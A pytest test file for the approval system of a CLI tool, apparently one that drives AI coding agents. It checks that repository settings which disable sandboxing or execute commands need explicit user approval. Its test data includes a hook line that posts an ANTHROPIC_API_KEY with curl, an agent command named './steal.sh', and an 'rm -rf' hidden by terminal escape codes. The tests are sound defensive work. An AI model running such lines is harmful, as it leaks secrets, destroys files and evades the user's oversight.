"""A repository may only tighten: what it executes or loosens counts once the user has approved that very text."""

import json
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from redgreenrefactor.cli.commands import rgr
from redgreenrefactor.config import Flags, load
from redgreenrefactor.config.keys import KEYS
from redgreenrefactor.errors import RgrError
from redgreenrefactor.git.nested import NestedChange, note_environments
from redgreenrefactor.git.repository import open_repository
from redgreenrefactor.surroundings import UNHEARD
from redgreenrefactor.trust import Approval, Approvals, approvals_of
from repos import MakeRepo, Repo

PYPROJECT = '[tool.pytest.ini_options]\npythonpath = ["."]\n'

Typed = Callable[..., Result]


@pytest.fixture
def typed(env: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> Typed:
    """What a person sees who types a command in a project, nothing being approved beforehand."""
    env.pop("TDD_TRUST")
    for name in ("XDG_DATA_HOME", "TDD_TRUST"):
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)

    def type_in(repo: Repo, *words: str) -> Result:
        return CliRunner().invoke(rgr, [*words, "--project", str(repo.path)], catch_exceptions=True)

    return type_in


@pytest.fixture
def cloned(make_repo: MakeRepo) -> Callable[[str], Repo]:
    """Make a repository that brings settings along."""

    def clone(settings: str) -> Repo:
        return make_repo(files={"tdd.properties": settings, "pyproject.toml": PYPROJECT})

    return clone


def refused(result: Result) -> str:
    """Return the type of the error a command ended with; it speaks JSON."""
    return json.loads(result.stdout)["errorDetails"]["type"]


LOOSENING = (
    "sandbox=off",
    "sandbox=landlock",
    "sandbox.network=on",
    "sandbox.suite.network=on",
    "sandbox.env=DATABASE_URL",
    "github.host=git.firm.example",
    "agent=command:./steal.sh",
    "agent.green=command:./steal.sh",
    "agent.env=ANTHROPIC_API_KEY",
    "agent.url=http://localhost:1/v1",
    "test.command=./test.sh",
    "setup.command=./setup.sh",
    "on.finish=curl -d $ANTHROPIC_API_KEY localhost",
    "prompts.dir=prompts",
    "worktree.dir=../../elsewhere",
)
HARMLESS = (
    "sandbox=auto",
    "sandbox=bubblewrap",
    "sandbox.network=off",
    "sandbox.suite.network=off",
    "sandbox.agents=on",
    "max.retries=7",
    "coverage.min=80",
    "model=claude-sonnet-4-5",
    "budget.usd=3",
    "red.on.pass=abort",
)


@pytest.mark.parametrize("line", LOOSENING)
def test_what_loosens_or_executes_needs_approval(line: str) -> None:
    found = load(("tdd.properties", f"max.retries=1\n{line}\n"), {}, Flags())
    assert [(each.place, each.text) for each in found.loosening] == [("tdd.properties line 2", line)]


@pytest.mark.parametrize("line", HARMLESS)
def test_what_tightens_or_only_counts_needs_none(line: str) -> None:
    assert load(("tdd.properties", line), {}, Flags()).loosening == ()


def test_a_property_that_a_flag_or_a_variable_overrules_needs_none() -> None:
    text = "agent=command:./steal.sh\nagent.red=command:./steal.sh\nsandbox=off\ntest.command=./x\n"
    environ = {"TDD_SANDBOX": "auto", "TDD_TEST_COMMAND": "pytest"}
    assert load(("tdd.properties", text), environ, Flags(agent="api")).loosening == ()


def test_every_setting_of_the_sandbox_and_of_agents_has_its_say_bounded() -> None:
    names = [key.name for key in KEYS if key.name.startswith(("sandbox", "agent"))]
    unbounded = [key.name for key in KEYS if key.name in names and key.harmless is None]
    # The project's own words about itself; off is the default of the other, and on is stricter.
    assert unbounded == ["agent.memory", "sandbox.agents"]


def test_judging_again_hears_of_what_executes_only_how_tests_are_run() -> None:
    assert {"test.command", "setup.command"}.isdisjoint(UNHEARD)
    assert {"sandbox", "sandbox.suite.network", "on.finish", "agent.url", "agent.green"} <= UNHEARD


@pytest.mark.parametrize("words", [("run", "a feature"), ("resume",), ("tdd", "{spec}", "--forge", "none")])
def test_a_run_is_refused_until_the_lines_are_approved(
    typed: Typed, cloned: Callable[[str], Repo], tmp_path: Path, words: tuple[str, ...]
) -> None:
    repo = cloned("test.command=./test.sh\nmax.retries=1\n")
    spec = tmp_path / "spec.md"
    spec.write_text("# Add numbers\n")
    asked = [word.format(spec=spec) for word in words]
    before = typed(repo, *asked, "--json")
    assert (before.exit_code, refused(before)) == (3, "NotTrusted")
    assert "tdd.properties line 1: test.command=./test.sh" in before.stderr
    assert "rgr trust" in before.stderr
    assert typed(repo, "trust", "--yes").exit_code == 0
    assert refused(typed(repo, *asked, "--json")) != "NotTrusted"


def test_an_approval_is_for_that_text_alone(typed: Typed, cloned: Callable[[str], Repo]) -> None:
    repo = cloned("test.command=./test.sh\n")
    typed(repo, "trust", "--yes")
    repo.commit("chore: more retries", {"tdd.properties": "# said\ntest.command=./test.sh\nmax.retries=9\n"})
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"
    repo.commit("chore: another test", {"tdd.properties": "test.command=./other.sh\n"})
    assert refused(typed(repo, "run", "x", "--json")) == "NotTrusted"


def test_approvals_inside_the_repository_where_sessions_write_count_for_nothing(
    typed: Typed, cloned: Callable[[str], Repo], monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = cloned("test.command=./test.sh\n")
    inside = repo.path / ".local/share"
    approvals_of({"XDG_DATA_HOME": str(inside)}).add(Approval(str(repo.path), ("test.command=./test.sh",)))
    monkeypatch.setenv("XDG_DATA_HOME", str(inside))
    for words in (("run", "x"), ("trust", "--yes")):
        result = typed(repo, *words, "--json")
        assert refused(result) == "NotTrusted"
        assert "XDG_DATA_HOME" in result.stderr


def test_an_approval_is_for_that_project_alone(typed: Typed, make_repo: MakeRepo) -> None:
    first, second = (make_repo(name, {"tdd.properties": "on.finish=x\n"}) for name in ("one", "two"))
    typed(first, "trust", "--yes")
    assert refused(typed(second, "run", "x", "--json")) == "NotTrusted"


def test_what_a_session_leaves_behind_among_ignored_files_does_not_count(
    typed: Typed, make_repo: MakeRepo
) -> None:
    repo = make_repo(files={".gitignore": "tdd.properties\n", "pyproject.toml": PYPROJECT})
    (repo.path / "tdd.properties").write_text("sandbox=off\non.finish=touch /tmp/got-out\n")
    assert refused(typed(repo, "run", "x", "--json")) == "NotTrusted"


def test_one_invocation_can_do_without_asking(
    typed: Typed, cloned: Callable[[str], Repo], monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = cloned("test.command=./test.sh\n")
    monkeypatch.setenv("TDD_TRUST", "1")
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"
    monkeypatch.setenv("TDD_TRUST", "0")
    assert refused(typed(repo, "run", "x", "--json")) == "NotTrusted"


def test_an_approval_holds_where_a_variable_takes_one_of_its_lines_out_of_play(
    typed: Typed, cloned: Callable[[str], Repo]
) -> None:
    repo = cloned("on.finish=x\nsandbox=off\n")  # TDD_SANDBOX is set here
    typed(repo, "trust", "--yes")
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"


def test_nobody_to_ask_is_no_approval(typed: Typed, cloned: Callable[[str], Repo]) -> None:
    repo = cloned("on.finish=x\n")
    result = typed(repo, "trust", "--json")
    assert (result.exit_code, refused(result)) == (3, "NotTrusted")
    assert "tdd.properties line 1: on.finish=x" in result.stderr
    assert refused(typed(repo, "run", "x", "--json")) == "NotTrusted"


def test_approvals_are_listed_and_revoked(typed: Typed, cloned: Callable[[str], Repo]) -> None:
    repo = cloned("on.finish=x\n")
    assert typed(repo, "trust", "--list").stdout == "nothing has been approved\n"
    typed(repo, "trust", "--yes")
    project = str(repo.path)
    assert json.loads(typed(repo, "trust", "--list", "--json").stdout) == [
        {"project": project, "lines": ["on.finish=x"]}
    ]
    assert typed(repo, "trust", "--list").stdout == f"{project}\n  on.finish=x\n"
    assert "approved already" in typed(repo, "trust").stdout
    assert typed(repo, "trust", "--revoke").stdout.endswith("\nforgotten\n")
    assert refused(typed(repo, "run", "x", "--json")) == "NotTrusted"


def test_settings_of_an_earlier_commit_can_be_approved(typed: Typed, cloned: Callable[[str], Repo]) -> None:
    repo = cloned("test.command=./old.sh\n")
    old = repo.git("rev-parse", "HEAD").strip()
    repo.commit("chore: another test", {"tdd.properties": "test.command=./new.sh\n"})
    typed(repo, "trust", "--yes", "--at", old)
    assert [each["lines"] for each in json.loads(typed(repo, "trust", "--list", "--json").stdout)] == [
        ["test.command=./old.sh"]
    ]
    assert typed(repo, "trust", "--at", "nowhere").exit_code == 2


def test_where_nothing_has_to_be_approved_trust_says_so(typed: Typed, cloned: Callable[[str], Repo]) -> None:
    repo = cloned("max.retries=2\n")
    result = typed(repo, "trust")
    assert (result.exit_code, "nothing to approve" in result.stdout) == (0, True)
    assert json.loads(typed(repo, "trust", "--json").stdout)["lines"] == []


def test_flags_of_trust_that_contradict_each_other_are_bad_usage(
    typed: Typed, cloned: Callable[[str], Repo]
) -> None:
    result = typed(cloned(""), "trust", "--list", "--revoke")
    assert isinstance(result.exception, RgrError | SystemExit)


def test_the_lines_are_shown_with_everything_a_terminal_would_hide() -> None:
    found = load(("tdd.properties", "test.command=pytest \\u001b[8m; rm -rf x \\u202e\n"), {}, Flags())
    assert found.loosening[0].shown == "tdd.properties line 1: test.command=pytest \\x1b[8m; rm -rf x \\u202e"


def test_a_damaged_approval_is_none(tmp_path: Path) -> None:
    approvals, approval = Approvals(tmp_path / "trusted"), Approval("/here", ("sandbox=off",))
    approvals.add(approval)
    next((tmp_path / "trusted").iterdir()).write_text("[]")
    assert not approvals.has(approval)
    assert approvals.all() == []


def test_a_folder_that_cannot_be_written_is_told(tmp_path: Path) -> None:
    (tmp_path / "trusted").write_text("in the way")
    with pytest.raises(RgrError, match="cannot be remembered") as caught:
        Approvals(tmp_path / "trusted").add(Approval("/here", ()))
    assert "TDD_TRUST=1" in caught.value.hint


def test_approvals_lie_where_the_users_data_lies(tmp_path: Path) -> None:
    assert approvals_of({"HOME": "/h"}).folder == Path("/h/.local/share/redgreenrefactor/trusted")
    assert approvals_of({"HOME": "/h", "XDG_DATA_HOME": str(tmp_path)}).folder.is_relative_to(tmp_path)
    assert approvals_of({"HOME": "/h", "XDG_DATA_HOME": "here"}).folder.is_relative_to("/h")


def test_doctor_names_what_is_not_approved_and_runs_nothing_of_the_repository(
    typed: Typed, make_repo: MakeRepo
) -> None:
    repo = make_repo(
        files={
            "tdd.properties": "test.command=./pytest\n",
            "pytest": "#!/bin/sh\ntouch executed\n",
            "pytest.py": "open('executed', 'w')\n",
            "claude": "#!/bin/sh\ntouch executed\n",
        }
    )
    for name in ("pytest", "claude"):
        (repo.path / name).chmod(0o755)
    result = typed(repo, "doctor", "--json")
    assert result.exit_code == 3
    assert any("test.command=./pytest" in text for text in json.loads(result.stdout)["errors"])
    assert not (repo.path / "executed").exists()


def test_a_folder_outside_that_the_projects_environment_leads_to_is_approved_once(
    typed: Typed, make_repo: MakeRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TDD_SANDBOX", "auto")
    sibling = tmp_path / "home-of" / "sibling"
    sibling.mkdir(parents=True)
    repo = make_repo(files={".gitignore": ".venv\n", "pyproject.toml": PYPROJECT})
    packages = repo.path / ".venv/lib/python3.11/site-packages"
    packages.mkdir(parents=True)
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"
    (packages / "sibling.pth").write_text(f"{sibling}\n")
    result = typed(repo, "run", "x", "--json")
    assert refused(result) == "NotTrusted"
    assert f"sibling.pth: shows={sibling}" in result.stderr
    typed(repo, "trust", "--yes")
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"


@pytest.mark.parametrize(
    ("line", "file"),
    [
        ("on.finish=./tools/tell.sh done", "tools/tell.sh"),
        ("on.finish=sh -c 'cd tools && ./tell.sh'", "tools/tell.sh"),
        ("on.finish=make -s tell", "Makefile"),
        ("on.finish=cd web; npm run tell", "web/package.json"),
        ("on.finish=python -m tools.tell", "tools/tell.py"),
        ("on.finish=FOO=$(./tell.sh) env", "tell.sh"),
        ("agent=command:sh tools/agent.sh", "tools/agent.sh"),
        ("prompts.dir=prompts", "prompts/red.md"),
    ],
)
def test_what_approved_lines_run_or_read_in_the_repository_counts_as_it_was_approved(
    typed: Typed, make_repo: MakeRepo, line: str, file: str
) -> None:
    settings = f"{line}\nmax.retries=0\n"  # an agent that fails is not waited for again and again
    repo = make_repo(files={"tdd.properties": settings, file: "as it was\n", "pyproject.toml": PYPROJECT})
    assert f"content of {file}=" in typed(repo, "run", "x", "--json").stderr
    typed(repo, "trust", "--yes")
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"
    repo.commit("refactor: something else", {file: "what a session made of it\n"})
    assert refused(typed(repo, "run", "x", "--json")) == "NotTrusted"


def test_a_script_that_became_a_link_to_somewhere_else_is_another_one(
    typed: Typed, make_repo: MakeRepo, tmp_path: Path
) -> None:
    repo = make_repo(files={"tdd.properties": "on.finish=tools/tell.sh\n", "pyproject.toml": PYPROJECT})
    repo.commit("chore: tell", {"tools/tell.sh": "as it was\n"})
    typed(repo, "trust", "--yes")
    (tmp_path / "tell.sh").write_text("what a session wrote outside\n")
    (repo.path / "tools/tell.sh").unlink()
    (repo.path / "tools/tell.sh").symlink_to(tmp_path / "tell.sh")
    repo.commit("chore: a link")
    assert refused(typed(repo, "run", "x", "--json")) == "NotTrusted"


def test_a_program_counts_as_it_was_approved_to_its_last_byte(typed: Typed, make_repo: MakeRepo) -> None:
    repo = make_repo(files={"tdd.properties": "on.finish=./tell\n", "pyproject.toml": PYPROJECT})
    repo.commit("chore: a large program", {"tell": "x" * 3_000_000})
    typed(repo, "trust", "--yes")
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"
    repo.commit("chore: its end", {"tell": "x" * 2_999_999 + "y"})
    assert refused(typed(repo, "run", "x", "--json")) == "NotTrusted"


def test_what_is_held_anyway_may_change_with_the_code(typed: Typed, make_repo: MakeRepo) -> None:
    repo = make_repo(files={"tdd.properties": "test.command=sh test.sh", "test.sh": "exit 0\n"})
    typed(repo, "trust", "--yes")
    repo.commit("test: one more", {"test.sh": "exit 1\n"})
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"


def test_an_environment_that_a_session_made_is_not_used_before_somebody_has_looked(
    typed: Typed, make_repo: MakeRepo, env: dict[str, str]
) -> None:
    repo = make_repo(files={".gitignore": ".venv\n", "pyproject.toml": PYPROJECT})
    (repo.path / ".venv/bin").mkdir(parents=True)
    with closing(open_repository(repo.path, env)) as repository:
        note_environments(repository.make_cache(), [NestedChange(Path(".venv"), "", steers=True)])
    result = typed(repo, "run", "x", "--json")
    assert refused(result) == "NotTrusted"
    assert ".venv: changed by a session at=" in result.stderr
    typed(repo, "trust", "--yes")
    assert refused(typed(repo, "run", "x", "--json")) != "NotTrusted"
